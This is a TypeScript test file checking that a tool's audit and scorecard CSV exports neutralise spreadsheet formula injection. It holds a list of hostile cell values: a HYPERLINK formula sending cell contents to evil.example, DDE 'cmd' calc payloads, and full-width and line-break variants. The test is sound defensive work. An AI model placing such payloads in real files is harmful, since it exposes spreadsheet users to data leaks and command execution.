import { parse } from "csv-parse/sync";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startsFormula } from "@/lib/csv/text-cell";
import { parseLossless, stringifyLossless } from "@/lib/protocol/json";
import { auditRecord } from "@/lib/testing/audit-fixture";
import { demo, StreamSequencer, tempStore, type TempStore } from "@/lib/testing/store-fixtures";
import { CSV_COLUMNS } from "./audit-export-format";
import { handleAuditExport } from "./audit-export";
import { handleScorecardExport } from "./scorecard-export";

/*
 * CSV injection: values from the wire that a spreadsheet would run as formulas must open
 * as text in every CSV Pilot writes (audit export, scorecard export).
 */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
  "\uFF20SUM(1)",
  "=1+1\nsecond line",
];
const MS = Date.UTC(2026, 10, 1);

let t: TempStore;
beforeAll(() => {
  t = tempStore();
  const seq = new StreamSequencer();
  const records = HOSTILE.map((executor, i) =>
    auditRecord(i + 1, "policy", `0190f0c0-0000-7000-8000-00000000000${i}`, {
      intent_id: `0190f0c0-0000-7000-8000-00000000000${i}`,
      result_status: "denied",
      timestamp_ns: BigInt(MS + i) * 1_000_000n,
      executor_id: executor,
      policy_decisions: [{ rule_name: "path-sandbox", decision: "deny", reason: "=2+2" }],
      security_context: {
        sandbox_mode: "full",
        user_ns: 1,
        mount_ns: 1,
        pid_ns: 1,
        net_ns: null,
        cgroup_path: executor,
        landlock_enabled: true,
        seccomp_enabled: true,
        allowlist_hits: null,
      },
      resource_usage: null,
    }),
  );
  // Replies of models whose ids are formulas, for the scorecard export.
  const reply = demo(4000).find((m) => !m.malformed && m.subject.startsWith("newt.replies."));
  if (!reply) throw new Error("the demo has no reply");
  const body = parseLossless(reply.payload);
  if (body === null || typeof body !== "object" || Array.isArray(body))
    throw new Error("a reply is an object");
  const replies = HOSTILE.map((model, i) =>
    seq.raw(
      reply.subject.replace(/[^.]+$/, `task-formula-${i}`),
      stringifyLossless({ ...body, model_id: model }),
    ),
  );
  const applied = t.store.applyBatch([...records, ...replies]);
  expect(applied.quarantined).toBe(0);
}, 60_000);
afterAll(() => t?.cleanup());

describe("CSV exports and formula injection", () => {
  it("the audit export writes an executor id or cgroup that starts a formula as text", async () => {
    const res = handleAuditExport(
      () => t.store,
      new URL("http://pilot.test/api/audit/export?format=csv&decision=deny"),
      MS,
    );
    expect(res.status).toBe(200);
    const rows: Record<string, string>[] = parse(await res.text(), { columns: true });
    const byExecutor = rows.map((r) => r.executorId ?? "");
    expect(byExecutor.sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
    for (const r of rows) {
      expect(r.cgroupPath).toBe(r.executorId);
      // No cell of the file starts a formula; the numbers stay numbers.
      for (const c of CSV_COLUMNS) expect(startsFormula(r[c] ?? ""), `${c}: ${r[c]}`).toBe(false);
      expect(r.seq).toMatch(/^\d+$/);
    }
  });

  it("the scorecard export writes a model id that starts a formula as text, line breaks and full-width signs too", async () => {
    const res = handleScorecardExport(
      () => t.store,
      new URL("http://pilot.test/api/scorecards/export?format=csv"),
    );
    const text = await res.text();
    const models = Papa.parse<string[]>(text, { comments: "#", skipEmptyLines: true })
      .data.slice(1)
      .map((r) => r[0] ?? "");
    for (const h of HOSTILE) expect(models).toContain(`'${h}`);
    for (const m of models) expect(startsFormula(m), m).toBe(false);
  });

  it("a crafted scorecard link puts no formula cell in the export's comment line", async () => {
    const model = '",=HYPERLINK(""http://evil.example"")';
    const res = handleScorecardExport(
      () => t.store,
      new URL(
        `http://pilot.test/api/scorecards/export?format=csv&model=${encodeURIComponent(model)}`,
      ),
    );
    const firstLine = (await res.text()).split("\n")[0] ?? "";
    expect(firstLine.startsWith("# Pilot scorecard export (")).toBe(true);
    // A spreadsheet splits the line at commas outside quotes, as here.
    const cells = Papa.parse<string[]>(firstLine).data.flat();
    expect(cells.length).toBeGreaterThan(1);
    for (const c of cells) expect(startsFormula(c), c).toBe(false);
  });
});
